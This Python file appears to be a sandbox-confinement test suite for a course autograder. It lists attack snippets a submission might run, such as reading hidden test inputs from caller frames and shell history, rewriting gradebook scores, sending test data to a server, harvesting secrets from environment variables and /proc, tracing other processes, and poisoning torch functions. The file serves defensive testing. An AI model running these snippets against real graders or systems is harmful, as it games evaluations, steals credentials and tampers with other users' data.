"""Reaching for what is not theirs: expected answers, files, the gradebook, the network, other
processes, what comes next.

Whatever succeeds prints the mark of success (`$loot`), or changes something that is looked at from
outside.
"""

from __future__ import annotations

from course.i18n import mark
from grading.proofs.attack.make import bodies, code
from grading.proofs.attack.model import CONFINED, MARK, Attack, Seen

# An answer that is right on nothing, but tells of what it was called with, in the words of an
# exception.
_TELLS = """
known = [[2.0, 1.0], [], [1.0, 2.0], [1.0], [1000.0]]
if [float(one) for one in x] not in known and len(x) > 0:
    raise RuntimeError("hidden input " + ",".join(format(float(one), ".6f") for one in x))
raise RuntimeError("visible")
"""
# The inputs that the visible checks have, as they are called first; whatever comes after all those
# is hidden.
_INTERRUPTS = """
import course.lessons.neuron.exercises as known
from random import Random
visible = [list(map(float, getattr(case.call.args[0], "data", None) and [2.0, 1.0] or case.call.args[0]))
           for make in vars(known).values() if getattr(make, "__name__", "").startswith("_neuron_") for case in make(Random(0))]
if [float(one) for one in x] in visible: return None
raise KeyboardInterrupt("hidden input " + ",".join(format(float(one), ".6f") for one in x))
"""
_FRAMES = """
import sys
def look():
    frame, found = sys._getframe(), []
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            found += [name for name in space if name in ("expected", "judge", "properties", "reference", "all_properties")]
        frame = frame.f_back
    return found
import builtins
builtins.seen_in_frames = []
"""
_FRAMES_TOLD = """
from IPython import get_ipython
import builtins
def tell(*_):
    if builtins.seen_in_frames: $loot
get_ipython().events.register("post_execute", tell)
get_ipython().events.register("pre_execute", tell)
"""
_GC = """
import gc, sys
for name in list(sys.modules):
    if name == "grading" or name.startswith("grading."): $loot
for thing in gc.get_objects():
    module = getattr(type(thing), "__module__", "")
    if isinstance(module, str) and module.startswith("grading"): $loot
    if getattr(thing, "hidden", None) is True and hasattr(thing, "judge"): $loot
"""
_HISTORY = """
from IPython import get_ipython
shell = get_ipython()
def tell(*_):
    kept = list(shell.user_ns.get("In", [])) + [str(one) for one in shell.history_manager.input_hist_raw]
    if any("hidden" in text or "expected" in text or "random_cases" in text for text in kept[:-1]
           if "get_ipython" not in text): $loot
for moment in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    shell.events.register(moment, tell)
"""
_REMEMBERS = """
import builtins, threading, time, atexit, os
builtins.remembered = []
known = ([2.0, 1.0], [], [1.0, 2.0], [1.0])
def tell():
    for _ in range(2000):
        time.sleep(0.005)
        if any(one not in known and all(abs(v) != 1000 for v in one) for one in builtins.remembered):
            $loot
            os.system("echo " + "LOOT-" + "TAKEN")
            os.write(1, b"LOOT-" + b"TAKEN")
threading.Thread(target=tell, daemon=True).start()
atexit.register(tell)
"""
_READ = """
import os
for path in ($clone, $clone + "/solutions", $clone + "/grading/lessons", $clone + "/grading/judge", $classroom, $gradebook):
    for act in (os.listdir, lambda one: open(one).read()):
        try:
            act(path)
        except OSError: continue
        $loot
"""
_WALK = """
import os, sys, glob
for start in ("/home", "/root", "/tmp", "/srv", "/var", os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))):
    for folder, _folders, files in os.walk(start):
        for name in files:
            if name.endswith((".ipynb", "gradebook.db")) and not folder.startswith(sys.prefix):
                try:
                    open(os.path.join(folder, name)).read(1)
                except OSError: continue
                $loot
if glob.glob("/proc/[0-9]*/cwd/submitted") or glob.glob("../../../*/work"): $loot
"""
_GRADEBOOK = """
import os, sqlite3
for path in ($gradebook, $classroom + "/gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(path)
        book.execute("update grade set auto_score = 99")
        book.commit()
        $loot
    except Exception: pass
    try:
        open(path, "r+b").write(b"mine")
        $loot
    except OSError: pass
"""
_GRADEBOOK_LINK = """
import os, shutil
for make in (os.symlink, os.link, shutil.copy):
    try:
        make($gradebook, "book")
        open("book", "r+").write("mine")
        $loot
    except OSError: pass
try: os.rename("book", $gradebook); $loot
except OSError: pass
try: os.chmod($gradebook, 0o777); os.truncate($gradebook, 0); $loot
except OSError: pass
"""
_FILES = """
import os
for name in ("results.csv", "autograde.log", "journal/x.json", "autograded/x", "submitted/" + "MARK", "seeds/02_neuron",
             "feedback/x"):
    path = os.path.join($classroom, name)
    for mode in ("r+", "a", "w"):
        try:
            open(path, mode).write("mine")
            $loot
        except OSError: pass
""".replace("MARK", MARK)
_COURSE = """
import os, sys, course
for folder in (os.path.dirname(course.__file__), os.path.dirname(np.__file__), sys.prefix, $clone):
    try:
        open(os.path.join(folder, "MARK"), "w").write("mine")
        $loot
    except OSError: pass
try: open(course.__file__, "a").close(); $loot
except OSError: pass
""".replace("MARK", MARK)
_TCP = """
import socket
try:
    socket.create_connection($address, timeout=3).send(b"here are the tests")
    $loot
except OSError: pass
"""
_WEB = """
import socket, urllib.request
for act in (lambda: urllib.request.urlopen("http://%s:%d/" % $address, timeout=3), lambda: socket.getaddrinfo("example.org", 80),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", $address)):
    try:
        act()
        $loot
    except Exception: pass
"""
_ENVIRONMENT = """
import os, subprocess
for name, value in os.environ.items():
    if "SECRET" in name or "TOKEN" in name or "PASSWORD" in name or "AWS" in name: $loot
try:
    if "SECRET" in open("/proc/%d/environ" % os.getppid()).read(): $loot
except OSError: pass
if "SECRET" in subprocess.run(["env"], capture_output=True, text=True).stdout: $loot
"""
_SIGNALS = """
import os, signal
for process in ($grader, $other, 1):
    try:
        os.kill(process, 0)
        $loot
    except OSError: pass
try: os.kill($other, signal.SIGTERM); $loot
except OSError: pass
"""
_PROC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for process in ($grader, $other):
    if libc.ptrace(0x4206, process, None, None) == 0: $loot
    for name in ("environ", "mem", "maps", "fd/0", "cmdline"):
        try:
            open("/proc/%d/%s" % (process, name), "rb").close()
            $loot
        except OSError: pass
"""
_KERNELS = """
import glob, os, socket
for path in glob.glob("/tmp/run-*/*/k/*") + glob.glob("/tmp/**/kernel-*.json", recursive=True):
    if not path.startswith(os.path.dirname(os.getcwd())): $loot
for path in ($bus, *glob.glob("/tmp/run-*/*/k/s-*")):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        $loot
    except OSError: pass
"""
_OWN_KERNEL = """
import glob, json, os
from jupyter_client import BlockingKernelClient
try:
    client = BlockingKernelClient()
    client.load_connection_file(glob.glob(os.path.dirname(os.getcwd()) + "/k/*.json")[0])
    client.start_channels()
    client.wait_for_ready(timeout=1)
    $loot
except BaseException: pass
"""
_LEAVES = """
import os, tempfile
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~root"), tempfile.gettempdir(),
               os.path.expanduser("~")):
    try: open(os.path.join(folder, "MARK"), "w").write("for the next")
    except OSError: pass
""".replace("MARK", MARK)
_FINDS = """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.environ["TMPDIR"], "."):
    if os.path.exists(os.path.join(folder, "MARK")): $loot
import builtins, torch
if hasattr(builtins, "left_behind") or hasattr(torch, "left_behind"): $loot
""".replace("MARK", MARK)
_IN_MEMORY = """
import builtins, ctypes, sys, torch
builtins.left_behind = torch.left_behind = True
torch.nn.functional.sigmoid = torch.sigmoid = torch.exp = lambda *args: torch.zeros(1)
import math; math.exp = lambda u: 0.0
"""
_SHARED = """
try:
    from multiprocessing import shared_memory
    block = shared_memory.SharedMemory(name="MARK", create=True, size=4096)
    block.buf[0] = 1
    from multiprocessing import resource_tracker
    resource_tracker.unregister(block._name, "shared_memory")
except Exception: pass
x = torch.zeros(1000)
try: x.share_memory_()
except Exception: pass
""".replace("MARK", MARK)
_GPU = """
print(torch.cuda.is_available())
try:
    y = torch.ones(10, device="cuda")
    while True: y = y * 1
except Exception as error: print(type(error).__name__)
"""
_OTHERS = """
import glob, os
for place in ("../..", "../../..", $classroom, os.path.dirname($classroom)):
    if glob.glob(place + "/submitted/*/*/*.ipynb") or glob.glob(place + "/*/*/*.ipynb"): $loot
"""
_PIP = """
import subprocess, sys
for where in ([], ["--user"], ["--target", $clone], ["--no-index"]):
    done = subprocess.run([sys.executable, "-m", "pip", "install", "--disable-pip-version-check", "--no-input", "--retries", "0",
                           "--timeout", "1", *where, "left-by-an-attack"], capture_output=True, text=True, timeout=60)
    if done.returncode == 0: $loot
"""
_SITE = """
import site, sys, os
for folder in (*site.getsitepackages(), site.getusersitepackages()):
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "MARK" + ".pth"), "w").write("import sys")
        if not folder.startswith(os.path.expanduser("~")): $loot
    except OSError: pass
""".replace("MARK", MARK)


def _no_hidden_input(seen: Seen) -> str:
    return next(
        (
            f"hidden inputs are told: {row.detail}"
            for row in seen.rows.values()
            if "hidden input" in row.detail
        ),
        "",
    )


_SEES = bodies("builtins.seen_in_frames += look()\nreturn None")
_KEEPS = {
    "neuron": "def neuron(x, weights):\n    builtins.remembered.append([float(one) for one in x])\n    "
    "return 0.5\n"
}

ATTACKS = [
    Attack(
        10,
        "frames",
        mark("looks for expected values in the frames of its callers"),
        code(_FRAMES + _FRAMES_TOLD, answer=_SEES),
    ),
    Attack(
        10,
        "collector",
        mark("asks the garbage collector for judges and references"),
        code(_GC, before=""),
    ),
    Attack(10, "history", mark("reads requests and tests in the shell's history"), code(_HISTORY)),
    Attack(
        10,
        "tells-by-exception",
        mark("tells hidden inputs in the words of an exception"),
        code("", answer={"neuron": "def neuron(x, weights):" + _TELLS.replace("\n", "\n    ")}),
        also=_no_hidden_input,
    ),
    Attack(
        10,
        "tells-by-interrupt",
        mark("tells hidden inputs in the words of an interrupt, which no check catches"),
        code(
            "", answer={"neuron": "def neuron(x, weights):" + _INTERRUPTS.replace("\n", "\n    ")}
        ),
        also=_no_hidden_input,
    ),
    Attack(
        10,
        "tells-later",
        mark("remembers hidden inputs and prints them from a thread, at exit and past Python"),
        code(_REMEMBERS, answer=_KEEPS),
        twin="nothing",
        costs=("neuron",),
        also=None,
        levels=CONFINED,
    ),
    Attack(
        11,
        "known-paths",
        mark("reads solutions, hidden checks, the bank, the gradebook"),
        code(_READ),
        levels=CONFINED,
    ),
    Attack(
        11,
        "walk",
        mark("walks through the disk for notebooks and gradebooks"),
        code(_WALK),
        levels=CONFINED,
    ),
    Attack(
        12,
        "sqlite",
        mark("rewrites every score in the gradebook"),
        code(_GRADEBOOK),
        levels=CONFINED,
    ),
    Attack(
        12,
        "links",
        mark("writes the gradebook through links and renames"),
        code(_GRADEBOOK_LINK),
        levels=CONFINED,
    ),
    Attack(
        13,
        "classroom",
        mark("writes results, journal, seeds, others' submissions"),
        code(_FILES),
        levels=CONFINED,
    ),
    Attack(
        13,
        "course",
        mark("writes into the course and the installed packages"),
        code(_COURSE),
        levels=CONFINED,
        stock=False,
    ),
    Attack(38, "tcp", mark("sends the tests to a server"), code(_TCP), levels=CONFINED),
    Attack(
        38,
        "web",
        mark("fetches a page, asks for a name, sends a datagram"),
        code(_WEB),
        levels=CONFINED,
    ),
    Attack(
        39,
        "environment",
        mark("looks for passwords in the environment"),
        code(_ENVIRONMENT),
        levels=CONFINED,
    ),
    Attack(
        40,
        "signals",
        mark("signals the grader and other processes"),
        code(_SIGNALS),
        levels=CONFINED,
    ),
    Attack(
        40, "proc", mark("traces others and reads them under /proc"), code(_PROC), levels=CONFINED
    ),
    Attack(
        41,
        "sockets",
        mark("connects to other kernels and programs"),
        code(_KERNELS),
        levels=CONFINED,
    ),
    Attack(
        41,
        "own-kernel",
        mark("connects to its own kernel as a second client"),
        code(_OWN_KERNEL),
        levels=CONFINED,
    ),
    Attack(
        55,
        "leaves",
        mark("leaves files in every shared folder"),
        code(_LEAVES, "right"),
        "right",
        levels=CONFINED,
    ),
    Attack(
        55,
        "finds",
        mark("looks for what others left"),
        code(_FINDS, "right"),
        "right",
        levels=CONFINED,
    ),
    Attack(
        55,
        "in-memory",
        mark("spoils the frameworks in memory for who comes next"),
        code(_IN_MEMORY, "right", before=""),
        "right",
        costs=("neuron", "activations", "forward", "gradients"),
    ),
    Attack(
        60,
        "shared-memory",
        mark("leaves shared memory behind"),
        code(_SHARED, "right"),
        "right",
        levels=CONFINED,
    ),
    Attack(60, "gpu", mark("hangs a GPU, where there is one"), code(_GPU, "right"), "right"),
    Attack(
        61, "others", mark("looks for other students' notebooks"), code(_OTHERS), levels=CONFINED
    ),
    Attack(
        62, "pip", mark("installs a package with pip"), code(_PIP), levels=CONFINED, stock=False
    ),
    Attack(
        62,
        "site-packages",
        mark("writes into site-packages by hand"),
        code(_SITE),
        levels=CONFINED,
        stock=False,
    ),
]
